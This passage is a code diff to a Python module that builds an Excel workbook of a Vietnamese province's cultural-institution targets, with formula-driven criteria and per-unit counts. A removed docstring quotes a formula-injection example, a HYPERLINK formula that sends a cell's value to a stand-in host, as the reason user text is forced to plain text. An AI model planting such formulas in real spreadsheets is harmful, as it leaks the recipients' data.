@@ -1,10 +1,21 @@
 """Writes a `Report` as an Excel workbook (openpyxl) that a province analyst can audit and extend.
 
-Sheets: «Bìa» (cover, like the paper), «Chỉ tiêu» (targets), «Theo đơn vị» (per unit, with the total row),
-«Số liệu thiết chế» (every institution's values) and «Thiếu số liệu» (institutions missing data).
-Every share or growth result on «Chỉ tiêu» is an Excel formula over the counts on «Theo đơn vị», whose total
-row is itself a SUM, so changing a count recomputes the result. Each sheet has frozen header rows, number
-formats, A4 landscape, fit to one page wide and repeated print titles.
+Sheets: «Bìa» (cover, like the paper, portrait), «Chỉ tiêu» (targets), «Theo đơn vị» (per unit, with the total
+row), «Số liệu thiết chế» (every institution's values), «Thiếu số liệu» (institutions missing data) and «Tham số»
+(the criteria's parameters).
+
+The workbook judges itself: an analyst who corrects a figure on «Số liệu thiết chế» sees everything that
+depends on it follow, as the program would compute it (services.evaluation, model.targets, model.criteria):
+- each institution's criterion («Đạt» / «Chưa đạt» / «Thiếu số liệu») is a formula over its row's values and
+  the parameters on «Tham số»;
+- the per-unit counts on «Theo đơn vị» (institutions, Đạt/Tổng of each share target, the growth targets' sums
+  of Y and Y−1) are COUNTIFS/SUMIFS over «Số liệu thiết chế», and the total row sums them;
+- on «Chỉ tiêu» numerator and denominator refer to that total row; the result, the number missing, the status
+  and «đạt / chưa đạt» are formulas over them and over the threshold and the on-track level, which are cells
+  too (change a threshold, the status follows).
+Formula cells are written only by `_formula`, never from text a user typed. Rows with wrapped text get an
+explicit height (LibreOffice does not grow rows on load). Each sheet has frozen header rows, number formats,
+A4, fit to one page wide and repeated print titles; the cover has no page number (NĐ 30: none on page one).
 """
 
 from __future__ import annotations
@@ -20,13 +31,22 @@ from openpyxl.utils import get_column_letter
 from openpyxl.worksheet.worksheet import Worksheet
 
 from lhtl_desktop.i18n import _
-from lhtl_desktop.model.catalogue import INDICATORS, TYPES_BY_CODE
-from lhtl_desktop.model.targets import TargetKind
-from lhtl_desktop.services.reports.sheet import CONFLICT_MARK, TARGET_SHORT, Report, criterion_word
+from lhtl_desktop.model.catalogue import INDICATORS, INDICATORS_BY_CODE, TYPES_BY_CODE
+from lhtl_desktop.model.targets import STATUS_LABELS, Status, TargetKind
+from lhtl_desktop.services.reports.sheet import (
+    CONFLICT_MARK,
+    FAMILY_CRITERION,
+    TARGET_SHORT,
+    InstitutionLine,
+    Report,
+    TargetLine,
+    criterion_word,
+    family_types,
+)
 
 FONT = "Times New Roman"
-COVER, TARGETS, UNITS, VALUES, MISSING = (
-    _("Bìa"), _("Chỉ tiêu"), _("Theo đơn vị"), _("Số liệu thiết chế"), _("Thiếu số liệu"))
+COVER, TARGETS, UNITS, VALUES, MISSING, PARAMETERS = (
+    _("Bìa"), _("Chỉ tiêu"), _("Theo đơn vị"), _("Số liệu thiết chế"), _("Thiếu số liệu"), _("Tham số"))
 INT_FORMAT = "#,##0"
 PCT_FORMAT = "0.0"
 
@@ -45,6 +65,41 @@ def _quote(sheet: str) -> str:
     return "'" + sheet.replace("'", "''") + "'"
 
 
+# -- explicit row heights ----------------------------------------------------------------------------------
+LINE_PT = 15.0  # one line of 11 pt Times New Roman, with leading
+
+
+def _lines_in(text: str, width: float, bold: bool = False) -> int:
+    """Lines a wrapped cell needs: a column of width w holds about 1.15 w characters of 11 pt Times New Roman
+    (w when bold); a word never splits across lines."""
+    per_line = max(1.0, width * (1.0 if bold else 1.15))
+    total = 0
+    for para in str(text).split("\n"):
+        lines, current = 1, 0
+        for word in para.split():
+            need = len(word) + (1 if current else 0)
+            if current and current + need > per_line:
+                lines, current = lines + 1, len(word)
+            else:
+                current += need
+        total += lines
+    return total
+
+
+def _fit_height(ws: Worksheet, row: int, cells: Sequence[tuple[object, float]], bold: bool = False,
+                size: float = 11.0) -> None:
+    """Give a row with wrapped text the height its longest cell needs (Excel grows such rows on load,
+    LibreOffice does not)."""
+    lines = max((_lines_in(str(text), width, bold) for text, width in cells if text), default=1)
+    height = lines * LINE_PT * size / 11.0 + 3
+    if height > (ws.row_dimensions[row].height or LINE_PT):
+        ws.row_dimensions[row].height = height
+
+
+def _width(ws: Worksheet, col: int) -> float:
+    return float(ws.column_dimensions[get_column_letter(col)].width or 8.43)
+
+
 def _page_setup(ws: Worksheet, title_rows: str, fingerprint: str, code: str) -> None:
     ws.page_setup.orientation = "landscape"
     ws.page_setup.paperSize = ws.PAPERSIZE_A4
@@ -59,49 +114,29 @@ def _page_setup(ws: Worksheet, title_rows: str, fingerprint: str, code: str) -> 
     ws.oddFooter.center.size = 8
 
 
-class Formula(str):
-    """A formula this module writes on purpose (totals, results). Every other string is written as text."""
-
-
-def _cell(ws: Worksheet, row: int, col: int, value: object) -> Any:
-    """The one way a value reaches a cell. openpyxl turns any string starting with "=" into a live formula
-    (and "#N/A" into an error): a name such as `=HYPERLINK("http://x.example/?d="&A1,"click")` from a
-    bundle would run in the province's Excel. So a string is a string cell unless it is one of our Formulas."""
-    cell = ws.cell(row=row, column=col, value=value)
-    if isinstance(value, Formula):
-        ws.parent.__dict__.setdefault("_lhtl_formulas", set()).add((id(ws), cell.coordinate))
-    elif isinstance(value, str):
-        cell.data_type = "s"
-    return cell
-
-
-def _text_is_text(wb: Workbook) -> None:
-    """Safety net before saving: no formula or error cell but those written as Formula."""
-    ours: set[tuple[int, str]] = wb.__dict__.get("_lhtl_formulas", set())
-    for ws in wb.worksheets:
-        for row in ws.iter_rows():
-            for cell in row:
-                if cell.data_type in ("f", "e") and (id(ws), cell.coordinate) not in ours:
-                    cell.data_type = "s"
-
-
 def _header(ws: Worksheet, row: int, titles: Sequence[str], widths: Sequence[float]) -> None:
     for col, (title, width) in enumerate(zip(titles, widths, strict=True), 1):
-        cell = _cell(ws, row, col, title)
+        cell = ws.cell(row=row, column=col, value=title)
         cell.font, cell.alignment, cell.border = BOLD, HEAD_ALIGN, BORDER
         ws.column_dimensions[get_column_letter(col)].width = width
+    _fit_height(ws, row, list(zip(titles, widths, strict=True)), bold=True)
 
 
 def _title(ws: Worksheet, text: str, ncols: int, row: int = 1) -> None:
-    _cell(ws, row, 1, text).font = TITLE
+    ws.cell(row=row, column=1, value=text).font = TITLE
     ws.merge_cells(start_row=row, start_column=1, end_row=row, end_column=max(ncols, 1))
 
 
 def _put(ws: Worksheet, row: int, col: int, value: object, fmt: str | None = None, font: Font = BODY,
          align: Alignment | None = None) -> None:
     """Write a bordered cell. Styling a cell through openpyxl's descriptors costs a list search per
-    attribute; cells of one look share a style array, so it is computed once per workbook and copied."""
-    cell = _cell(ws, row, col, value)
+    attribute; cells of one look share a style array, so it is computed once per workbook and copied.
+    A string is a text cell: openpyxl would turn any string starting with "=" into a live formula (a name
+    such as `=HYPERLINK(…)` from a bundle or a form would run in the province's Excel); `_formula` is the
+    only way a formula is written."""
+    cell = ws.cell(row=row, column=col, value=value)
+    if isinstance(value, str):
+        cell.data_type = "s"
     styles: dict[tuple[int, str | None, int], Any] = ws.parent.__dict__.setdefault("_lhtl_styles", {})
     key = (id(font), fmt, id(align))
     cached = styles.get(key)
@@ -116,52 +151,25 @@ def _put(ws: Worksheet, row: int, col: int, value: object, fmt: str | None = Non
     styles[key] = copy(cell._style)
 
 
-def _cover(wb: Workbook, r: Report) -> None:
-    ws = wb.active
-    assert ws is not None
-    ws.title = COVER
-    for col, width in zip("ABCDEFGH", (14, 14, 14, 6, 14, 14, 14, 14), strict=True):
-        ws.column_dimensions[col].width = width
-    center = Alignment(horizontal="center", vertical="center", wrap_text=True)
+def _formula(ws: Worksheet, row: int, col: int, formula: str, fmt: str | None = None, font: Font = BODY,
+             align: Alignment | None = None) -> None:
+    """A formula cell of ours (the only path that writes one): built from cell references, sheet names
+    and our own words, never from text a user typed."""
+    assert formula.startswith("=")
+    _put(ws, row, col, formula, fmt, font, align)
+    ws.cell(row=row, column=col).data_type = "f"
+    ws.parent.__dict__.setdefault("_lhtl_formulas", set()).add((id(ws), ws.cell(row=row, column=col).coordinate))
 
-    def merged(row: int, c1: int, c2: int, value: str, font: Font) -> None:
-        cell = _cell(ws, row, c1, value)
-        cell.font, cell.alignment = font, center
-        ws.merge_cells(start_row=row, start_column=c1, end_row=row, end_column=c2)
 
-    for i, line in enumerate(r.issuer_lines, 1):
-        merged(i, 1, 3, line, Font(name=FONT, size=12, bold=i == len(r.issuer_lines)))
-    merged(1, 5, 8, _("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"), Font(name=FONT, size=12, bold=True))
-    merged(2, 5, 8, _("Độc lập - Tự do - Hạnh phúc"), Font(name=FONT, size=13, bold=True, underline="single"))
-    merged(4, 5, 8, r.place_date, Font(name=FONT, size=13, italic=True))
-    heading, summary = r.title_lines
-    merged(6, 1, 8, heading, TITLE)
-    merged(7, 1, 8, summary, TITLE)
-    ws.row_dimensions[7].height = 36
-    merged(8, 1, 8, r.scope_line, Font(name=FONT, size=13))
-    merged(9, 1, 8, r.basis_line, Font(name=FONT, size=11, italic=True))
-    ws.row_dimensions[9].height = 30
-    facts = [
-        (_("Năm báo cáo"), r.year),
-        (_("Đơn vị lập biểu"), " – ".join(r.issuer_lines)),
-        (_("Cán bộ lập biểu"), r.officer),
-        (_("Dấu vân tay khóa"), r.fingerprint),
-        (_("Mã kiểm tra số liệu"), r.code),
-        (_("Các trang tính"), ", ".join((TARGETS, UNITS, VALUES, MISSING))),
-    ]
-    for i, (label, value) in enumerate(facts, 11):
-        _cell(ws, i, 1, label).font = BOLD
-        ws.merge_cells(start_row=i, start_column=1, end_row=i, end_column=3)
-        _cell(ws, i, 5, value).font = BODY
-        ws.merge_cells(start_row=i, start_column=5, end_row=i, end_column=8)
-    merged(18, 1, 3, _("NGƯỜI LẬP BIỂU"), Font(name=FONT, size=13, bold=True))
-    merged(18, 5, 8, _("THỦ TRƯỞNG ĐƠN VỊ"), Font(name=FONT, size=13, bold=True))
-    merged(19, 1, 3, _("(Ký, ghi rõ họ tên)"), Font(name=FONT, size=13, italic=True))
-    merged(19, 5, 8, _("(Ký, ghi rõ họ tên, đóng dấu)"), Font(name=FONT, size=13, italic=True))
-    merged(24, 1, 3, r.officer, Font(name=FONT, size=13, bold=True))
-    _provenance_lines(ws, r, 26)
-    _page_setup(ws, "1:1", r.fingerprint, r.code)
-    ws.page_setup.orientation = "portrait"
+def _text_is_text(wb: Workbook) -> None:
+    """Safety net before saving: no formula or error cell but those `_formula` wrote (a string that reached
+    a cell another way, e.g. a label, becomes text)."""
+    ours: set[tuple[int, str]] = wb.__dict__.get("_lhtl_formulas", set())
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type in ("f", "e") and (id(ws), cell.coordinate) not in ours:
+                    cell.data_type = "s"
 
 
 def _provenance_lines(ws: Worksheet, r: Report, row: int) -> None:
@@ -177,7 +185,190 @@ def _provenance_lines(ws: Worksheet, r: Report, row: int) -> None:
         ws.merge_cells(start_row=row + n, start_column=1, end_row=row + n, end_column=8)
 
 
-def _units(wb: Workbook, r: Report) -> tuple[dict[str, tuple[str, str]], int]:
+def _text(value: str) -> str:
+    """A string constant inside a formula."""
+    return '"' + value.replace('"', '""') + '"'
+
+
+# -- where things are: the columns of «Số liệu thiết chế» and the parameters' cells --------------------------
+CODES = [i.code for i in INDICATORS]
+VALUES_FIRST_ROW = 3
+YES, NO = _("Có"), _("Không")
+MEETS, NOT_MEETS, NO_DATA = criterion_word(True), criterion_word(False), criterion_word(None)
+
+
+class ValuesLayout:
+    """Columns of «Số liệu thiết chế»: STT, unit, unit name, institution, type label, the 19 indicators,
+    criterion, note, then the columns the formulas select on (active in Y, row of «Theo đơn vị», type code,
+    family) and the growth indicators' values of Y−1."""
+
+    def __init__(self, report: Report) -> None:
+        self.indicator = {code: get_column_letter(6 + k) for k, code in enumerate(CODES)}
+        n = 6 + len(CODES)
+        self.criterion, self.note = get_column_letter(n), get_column_letter(n + 1)
+        self.active, self.row, self.type, self.family = (get_column_letter(n + k) for k in range(2, 6))
+        growth = [t.code for t in report.targets if t.kind == TargetKind.GROWTH]
+        indicators = [report.definitions[c].indicator or "" for c in growth]
+        self.previous = {code: get_column_letter(n + 6 + k) for k, code in enumerate(dict.fromkeys(indicators))}
+        self.columns = n + 5 + len(self.previous)
+        closed = report.workbook.closed if report.workbook else ()
+        self.lines: list[tuple[InstitutionLine, bool]] = [(i, True) for i in report.institutions]
+        self.lines += [(i, False) for i in closed]
+        self.last_row = VALUES_FIRST_ROW + max(len(self.lines), 1) - 1
+
+    def range(self, letter: str) -> str:
+        return f"{_quote(VALUES)}!${letter}${VALUES_FIRST_ROW}:${letter}${self.last_row}"
+
+
+# «Tham số»: (criterion, what, value) — the numbers model.criteria's rules compare with.
+CRITERIA_PARAMETERS = (
+    ("LIB_LLL", _("Lớp kỹ năng, hoạt động khuyến đọc hoặc lượt phục vụ lưu động: tối thiểu"), 1),
+    ("MUS_LLL", _("Chương trình giáo dục lịch sử, văn hóa: tối thiểu"), 1),
+    ("MUS_LLL", _("Chuyên đề trưng bày trên không gian số: tối thiểu"), 1),
+    ("CC_LLL", _("Lớp năng khiếu + câu lạc bộ + nhóm sở thích: tối thiểu"), 1),
+    ("CC_LLL", _("Hoạt động văn hóa, văn nghệ, thể thao trong năm: tối thiểu"), 12),
+)
+PARAM_FIRST_ROW = 4
+
+
+def _param(k: int) -> str:
+    return f"{_quote(PARAMETERS)}!$C${PARAM_FIRST_ROW + k}"
+
+
+def criterion_formula(criterion: str, cell: dict[str, str]) -> str | None:
+    """The criterion of model.criteria as a formula over one row (cell[code] = "F7"); None if not known here.
+    No input recorded → «Thiếu số liệu»; an input not recorded counts as 0 (N() of an empty cell)."""
+    def n(code: str) -> str:
+        return f"N({cell[code]})"
+
+    inputs: tuple[str, ...]
+    if criterion == "LIB_LLL":
+        inputs = ("LIB_SKILL_CLASSES", "LIB_READING_EVENTS", "LIB_DIGITAL_SERVICE", "LIB_MOBILE_RUNS")
+        test = (f"OR({n('LIB_SKILL_CLASSES')}>={_param(0)},{n('LIB_READING_EVENTS')}>={_param(0)},"
+                f"{n('LIB_DIGITAL_SERVICE')}=1,{n('LIB_MOBILE_RUNS')}>={_param(0)})")
+    elif criterion == "MUS_LLL":
+        inputs = ("MUS_EDU_PROGRAMMES", "MUS_DIGITAL_EXHIBITS")
+        test = f"AND({n('MUS_EDU_PROGRAMMES')}>={_param(1)},{n('MUS_DIGITAL_EXHIBITS')}>={_param(2)})"
+    elif criterion == "CC_LLL":
+        inputs = ("CC_TALENT_CLASSES", "CC_CLUBS", "CC_INTEREST_GROUPS", "CC_ACTIVITIES")
+        test = (f"AND({n('CC_TALENT_CLASSES')}+{n('CC_CLUBS')}+{n('CC_INTEREST_GROUPS')}>={_param(3)},"
+                f"{n('CC_ACTIVITIES')}>={_param(4)})")
+    else:
+        return None
+    count = ",".join(cell[c] for c in inputs)
+    return f"=IF(COUNT({count})=0,{_text(NO_DATA)},IF({test},{_text(MEETS)},{_text(NOT_MEETS)}))"
+
+
+def _selectors(layout: ValuesLayout, types: Sequence[str]) -> list[str]:
+    """COUNTIFS/SUMIFS criteria pairs choosing the target's institutions: the family when the target takes
+    every type of it, else one term per type."""
+    families = {TYPES_BY_CODE[t].family for t in types}
+    if len(families) == 1:
+        family = next(iter(families))
+        if set(types) == set(family_types(family)):
+            return [f"{layout.range(layout.family)},{_text(family)}"]
+    return [f"{layout.range(layout.type)},{_text(t)}" for t in types]
+
+
+def _countifs(layout: ValuesLayout, types: Sequence[str], *extra: str) -> str:
+    rest = "".join("," + e for e in extra)
+    return "+".join(f"COUNTIFS({sel}{rest})" for sel in _selectors(layout, types))
+
+
+def _sumifs(layout: ValuesLayout, column: str, types: Sequence[str], *extra: str) -> str:
+    rest = "".join("," + e for e in extra)
+    return "+".join(f"SUMIFS({layout.range(column)},{sel}{rest})" for sel in _selectors(layout, types))
+
+
+def _judged_by_formula(report: Report, t: TargetLine) -> bool:
+    """Share targets whose criterion is each type's family criterion have their counts as formulas."""
+    d = report.definitions[t.code]
+    if d.kind != TargetKind.SHARE:
+        return bool(d.indicator)
+    return all(FAMILY_CRITERION[TYPES_BY_CODE[ty].family] == d.criterion for ty in d.types) and \
+        criterion_formula(d.criterion or "", {c: "A1" for c in CODES}) is not None
+
+
+# -- sheets ----------------------------------------------------------------------------------------------
+def _cover(wb: Workbook, r: Report) -> None:
+    ws = wb.active
+    assert ws is not None
+    ws.title = COVER
+    widths = (14, 14, 14, 6, 14, 14, 14, 14)
+    for col, width in zip("ABCDEFGH", widths, strict=True):
+        ws.column_dimensions[col].width = width
+    center = Alignment(horizontal="center", vertical="center", wrap_text=True)
+
+    def merged(row: int, c1: int, c2: int, value: str, font: Font) -> None:
+        cell = ws.cell(row=row, column=c1, value=value)
+        cell.font, cell.alignment = font, center
+        ws.merge_cells(start_row=row, start_column=c1, end_row=row, end_column=c2)
+        _fit_height(ws, row, [(value, sum(widths[c1 - 1:c2]))], bold=bool(font.b), size=float(font.sz or 11))
+
+    for i, line in enumerate(r.issuer_lines, 1):
+        merged(i, 1, 3, line, Font(name=FONT, size=12, bold=i == len(r.issuer_lines)))
+    merged(1, 5, 8, _("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"), Font(name=FONT, size=12, bold=True))
+    merged(2, 5, 8, _("Độc lập - Tự do - Hạnh phúc"), Font(name=FONT, size=13, bold=True, underline="single"))
+    merged(4, 1, 3, r.formalities.number_line, Font(name=FONT, size=13))
+    merged(4, 5, 8, r.place_date, Font(name=FONT, size=13, italic=True))
+    heading, summary = r.title_lines
+    merged(6, 1, 8, heading, TITLE)
+    merged(7, 1, 8, summary, TITLE)
+    merged(8, 1, 8, r.scope_line, Font(name=FONT, size=13))
+    merged(9, 1, 8, r.basis_line, Font(name=FONT, size=11, italic=True))
+    facts = [
+        (_("Năm báo cáo"), r.year),
+        (_("Đơn vị lập biểu"), " – ".join(r.issuer_lines)),
+        (_("Cán bộ lập biểu"), r.officer),
+        (_("Dấu vân tay khóa"), r.fingerprint),
+        (_("Mã kiểm tra số liệu"), r.code),
+        (_("Các trang tính"), ", ".join((TARGETS, UNITS, VALUES, MISSING, PARAMETERS))),
+    ]
+    for i, (label, value) in enumerate(facts, 11):
+        ws.cell(row=i, column=1, value=label).font = BOLD
+        ws.merge_cells(start_row=i, start_column=1, end_row=i, end_column=3)
+        cell = ws.cell(row=i, column=5, value=value)
+        cell.font, cell.alignment = BODY, Alignment(horizontal="left", vertical="center", wrap_text=True)
+        ws.merge_cells(start_row=i, start_column=5, end_row=i, end_column=8)
+        _fit_height(ws, i, [(label, 42), (value, 56)])
+    row = 18
+    ws.cell(row=row, column=1, value=_("Nơi nhận:")).font = Font(name=FONT, size=12, bold=True, italic=True)
+    for k, line in enumerate(r.formalities.recipients, 1):
+        ws.cell(row=row + k, column=1, value=f"- {line}").font = Font(name=FONT, size=11)
+    merged(row, 5, 8, r.formalities.signer_title[0] if r.formalities.signer_title else "",
+           Font(name=FONT, size=13, bold=True))
+    for k, line in enumerate(r.formalities.signer_title[1:], 1):
+        merged(row + k, 5, 8, line, Font(name=FONT, size=13, bold=True))
+    sign = row + max(1, len(r.formalities.signer_title))
+    merged(sign, 5, 8, _("(Ký, ghi rõ họ tên, đóng dấu)"), Font(name=FONT, size=13, italic=True))
+    if r.formalities.signer_name:
+        merged(sign + 5, 5, 8, r.formalities.signer_name, Font(name=FONT, size=13, bold=True))
+    below = max(sign + 7, row + len(r.formalities.recipients) + 2)
+    merged(below, 1, 3, _("NGƯỜI LẬP BIỂU"), Font(name=FONT, size=13, bold=True))
+    merged(below + 1, 1, 3, _("(Ký, ghi rõ họ tên)"), Font(name=FONT, size=13, italic=True))
+    merged(below + 5, 1, 3, r.officer, Font(name=FONT, size=13, bold=True))
+    _provenance_lines(ws, r, below + 7)
+    _page_setup(ws, "1:1", r.fingerprint, r.code)
+    ws.page_setup.orientation = "portrait"
+    ws.oddHeader.center.text = None  # NĐ 30: no page number on the first page
+
+
+def _parameters(wb: Workbook, r: Report) -> None:
+    ws = wb.create_sheet(PARAMETERS)
+    titles = [_("Tiêu chí"), _("Tham số"), _("Giá trị")]
+    _title(ws, _("Tham số của các tiêu chí (thay đổi ở đây thì mọi đánh giá tính lại)"), len(titles))
+    ws.cell(row=2, column=1, value=_("Ngưỡng của từng chỉ tiêu ở trang «{t}», cột «Ngưỡng (%)».").format(
+        t=TARGETS)).font = ITALIC
+    _header(ws, 3, titles, [14, 70, 10])
+    for k, (criterion, what, value) in enumerate(CRITERIA_PARAMETERS):
+        row = PARAM_FIRST_ROW + k
+        _put(ws, row, 1, criterion)
+        _put(ws, row, 2, what, align=WRAP)
+        _put(ws, row, 3, value, INT_FORMAT)
+    _page_setup(ws, "3:3", r.fingerprint, r.code)
+
+
+def _units(wb: Workbook, r: Report, layout: ValuesLayout) -> tuple[dict[str, tuple[str, str]], int]:
     """The per-unit sheet; returns each target's (numerator column, denominator column) and the total row."""
     ws = wb.create_sheet(UNITS)
     _title(ws, _("Tổng hợp theo đơn vị năm {y} — {scope}").format(y=r.year, scope=r.scope_line), 10)
@@ -190,32 +381,57 @@ def _units(wb: Workbook, r: Report) -> tuple[dict[str, tuple[str, str]], int]:
         ws.cell(row=3, column=col).border = BORDER
     columns: dict[str, tuple[str, str]] = {}
     col = len(fixed) + 1
+    heads: list[tuple[object, float]] = []
     for t in r.targets:
         subs = (_("Đạt"), _("Tổng")) if t.kind == TargetKind.SHARE else (_("Năm {y}").format(y=r.year),
                                                                          _("Năm {y}").format(y=r.year - 1))
-        head = _cell(ws, 2, col, TARGET_SHORT.get(t.code, t.code) + f" ({t.code})")
+        title = TARGET_SHORT.get(t.code, t.code) + f" ({t.code})"
+        head = ws.cell(row=2, column=col, value=title)
         head.font, head.alignment, head.border = BOLD, HEAD_ALIGN, BORDER
         ws.cell(row=2, column=col + 1).border = BORDER
         ws.merge_cells(start_row=2, start_column=col, end_row=2, end_column=col + 1)
+        width = 13 if t.kind == TargetKind.GROWTH else 8
         for k, sub in enumerate(subs):
-            c = _cell(ws, 3, col + k, sub)
+            c = ws.cell(row=3, column=col + k, value=sub)
             c.font, c.alignment, c.border = BOLD, HEAD_ALIGN, BORDER
-            ws.column_dimensions[get_column_letter(col + k)].width = 13 if t.kind == TargetKind.GROWTH else 8
+            ws.column_dimensions[get_column_letter(col + k)].width = width
+        heads.append((title, 2 * width))
         columns[t.code] = (get_column_letter(col), get_column_letter(col + 1))
         col += 2
-    ws.row_dimensions[2].height = 45
+    _fit_height(ws, 2, heads, bold=True)
     first = 4
+    v = layout
     for n, u in enumerate(r.units, 1):
         row = first + n - 1
         name = f"{u.name} {CONFLICT_MARK}" if u.provisional else u.name
-        for c, (value, fmt) in enumerate(((n, None), (u.code, None), (name, None), (u.institutions, INT_FORMAT),
-                                          (u.missing, INT_FORMAT)), 1):
+        for c, (value, fmt) in enumerate(((n, None), (u.code, None), (name, None)), 1):
             _put(ws, row, c, value, fmt, align=WRAP if c == 3 else None)
+        _fit_height(ws, row, [(name, widths[2])])
+        here = f"{v.range(v.row)},$B{row}"
+        active = f"{v.range(v.active)},{_text(YES)}"
+        _formula(ws, row, 4, f"=COUNTIFS({here},{active})", INT_FORMAT)
+        _put(ws, row, 5, u.missing, INT_FORMAT)
         for t in r.targets:
             num, den = u.counts[t.code]
             ncol, dcol = columns[t.code]
-            _put(ws, row, _col(ncol), num, INT_FORMAT)
-            _put(ws, row, _col(dcol), den, INT_FORMAT)
+            d = r.definitions[t.code]
+            if not _judged_by_formula(r, t):
+                _put(ws, row, _col(ncol), num, INT_FORMAT)
+                _put(ws, row, _col(dcol), den, INT_FORMAT)
+            elif t.kind == TargetKind.SHARE:
+                total = _countifs(v, d.types, here, active)
+                meeting = _countifs(v, d.types, here, active, f"{v.range(v.criterion)},{_text(MEETS)}")
+                _formula(ws, row, _col(ncol), f"={meeting}", INT_FORMAT)
+                _formula(ws, row, _col(dcol), f"={total}", INT_FORMAT)
+            else:
+                ind = v.indicator[d.indicator or ""]
+                prev = v.previous[d.indicator or ""]
+                reported = _countifs(v, d.types, here, active, f'{v.range(ind)},"<>"')
+                summed = _sumifs(v, ind, d.types, here, active)
+                _formula(ws, row, _col(ncol), f'=IF({reported}=0,"",{summed})', INT_FORMAT)
+                reported = _countifs(v, d.types, here, f'{v.range(prev)},"<>"')
+                summed = _sumifs(v, prev, d.types, here)
+                _formula(ws, row, _col(dcol), f'=IF({reported}=0,"",{summed})', INT_FORMAT)
     last = first + len(r.units) - 1
     total_row = last + 1
     _put(ws, total_row, 3, r.total.name, font=BOLD)
@@ -223,12 +439,11 @@ def _units(wb: Workbook, r: Report) -> tuple[dict[str, tuple[str, str]], int]:
         _put(ws, total_row, c, None)
     for c in (4, 5):
         letter = get_column_letter(c)
-        _put(ws, total_row, c, Formula(f"=SUM({letter}{first}:{letter}{last})"), INT_FORMAT, BOLD)
+        _formula(ws, total_row, c, f"=SUM({letter}{first}:{letter}{last})", INT_FORMAT, BOLD)
     for t in r.targets:
-        total = r.total.counts[t.code]
-        for letter, value in zip(columns[t.code], total, strict=True):
-            formula = Formula(f"=SUM({letter}{first}:{letter}{last})") if value is not None else None
-            _put(ws, total_row, _col(letter), formula, INT_FORMAT, BOLD)
+        for letter in columns[t.code]:
+            cells = f"{letter}{first}:{letter}{last}"
+            _formula(ws, total_row, _col(letter), f'=IF(COUNT({cells})=0,"",SUM({cells}))', INT_FORMAT, BOLD)
     ws.freeze_panes = "D4"
     _page_setup(ws, "2:3", r.fingerprint, r.code)
     return columns, total_row
@@ -240,61 +455,122 @@ def _col(letter: str) -> int:
     return column_index_from_string(letter)
 
 
-def _targets(wb: Workbook, r: Report, columns: dict[str, tuple[str, str]], total_row: int) -> None:
+TARGET_TITLES = [_("STT"), _("Mã chỉ tiêu"), _("Chỉ tiêu"), _("Loại"), _("Tử số"), _("Mẫu số"), _("Kết quả (%)"),
+                 _("Ngưỡng (%)"), _("Năm mốc"), _("Đánh giá"), _("Số thiết chế thiếu số liệu"), _("Ghi chú"),
+                 _("Mức theo lộ trình (%)"), _("Đạt chỉ tiêu")]
+TARGET_WIDTHS = [6, 20, 50, 12, 12, 12, 11, 10, 9, 14, 12, 24, 12, 9]
+
+
+def status_formula(t: TargetLine, row: int, year: int, not_applicable: str) -> str:
+    """model.targets' status over the row's own cells: E numerator, F denominator, G result, H threshold,
+    I milestone year, K missing, M on-track level."""
+    label = {s: _text(STATUS_LABELS[s]) for s in Status}
+    r = row
+    if t.kind == TargetKind.SHARE:
+        return (f"=IF(F{r}=0,{label[Status.NOT_APPLICABLE]},"
+                f"IF(OR(K{r}>=F{r},NOT(ISNUMBER(H{r}))),{label[Status.MISSING_DATA]},"
+                f"IF(G{r}>=H{r},{label[Status.MET]},"
+                f"IF(I{r}={year},{label[Status.BEHIND]},"
+                f"IF(AND(ISNUMBER(M{r}),G{r}>=M{r}),{label[Status.ON_TRACK]},{label[Status.BEHIND]})))))")
+    return (f"=IF({not_applicable},{label[Status.NOT_APPLICABLE]},"
+            f"IF(OR(NOT(ISNUMBER(G{r})),NOT(ISNUMBER(H{r}))),{label[Status.MISSING_DATA]},"
+            f"IF(G{r}>=H{r},{label[Status.MET]},{label[Status.BEHIND]})))")
+
+
+def _targets(wb: Workbook, r: Report, columns: dict[str, tuple[str, str]], total_row: int,
+             layout: ValuesLayout) -> None:
     ws = wb.create_sheet(TARGETS, 1)
-    titles = [_("STT"), _("Mã chỉ tiêu"), _("Chỉ tiêu"), _("Loại"), _("Tử số"), _("Mẫu số"), _("Kết quả (%)"),
-              _("Ngưỡng (%)"), _("Năm mốc"), _("Đánh giá"), _("Số thiết chế thiếu số liệu"), _("Ghi chú")]
-    widths = [6, 20, 50, 12, 12, 12, 11, 10, 9, 14, 12, 24]
+    titles, widths = TARGET_TITLES, TARGET_WIDTHS
     _title(ws, _("Kết quả thực hiện các chỉ tiêu năm {y} — {scope}").format(y=r.year, scope=r.scope_line),
            len(titles))
-    _cell(ws, 2, 1, _(
+    note = _(
         "Tỉ lệ: tử số = số thiết chế đạt tiêu chí, mẫu số = số thiết chế đang hoạt động; tăng trưởng: tử số = "
-        "tổng năm {y}, mẫu số = tổng năm {p}. Tử số, mẫu số lấy từ dòng tổng của trang «{units}».").format(
-            y=r.year, p=r.year - 1, units=UNITS)).font = ITALIC
+        "tổng năm {y}, mẫu số = tổng năm {p}. Tử số, mẫu số lấy từ dòng tổng của trang «{units}»; sửa số liệu ở "
+        "trang «{values}» hoặc ngưỡng ở cột H thì kết quả và đánh giá tự tính lại.").format(
+            y=r.year, p=r.year - 1, units=UNITS, values=VALUES)
+    cell = ws.cell(row=2, column=1, value=note)
+    cell.font, cell.alignment = ITALIC, WRAP
     ws.merge_cells(start_row=2, start_column=1, end_row=2, end_column=len(titles))
+    _fit_height(ws, 2, [(note, sum(widths))])
     _header(ws, 3, titles, widths)
     src = _quote(UNITS)
+    v = layout
+    active = f"{v.range(v.active)},{_text(YES)}"
     for n, t in enumerate(r.targets, 1):
         row = 3 + n
         ncol, dcol = columns[t.code]
-        num = Formula(f"={src}!{ncol}{total_row}") if t.numerator is not None else None
-        den = Formula(f"={src}!{dcol}{total_row}") if t.denominator is not None else None
+        d = r.definitions[t.code]
         if t.kind == TargetKind.SHARE:
-            value = Formula(f'=IF(AND(ISNUMBER(E{row}),ISNUMBER(F{row}),F{row}>0),E{row}/F{row}*100,"")')
+            value = f'=IF(AND(ISNUMBER(E{row}),ISNUMBER(F{row}),F{row}>0,K{row}<F{row}),E{row}/F{row}*100,"")'
             kind = _("Tỉ lệ")
         else:
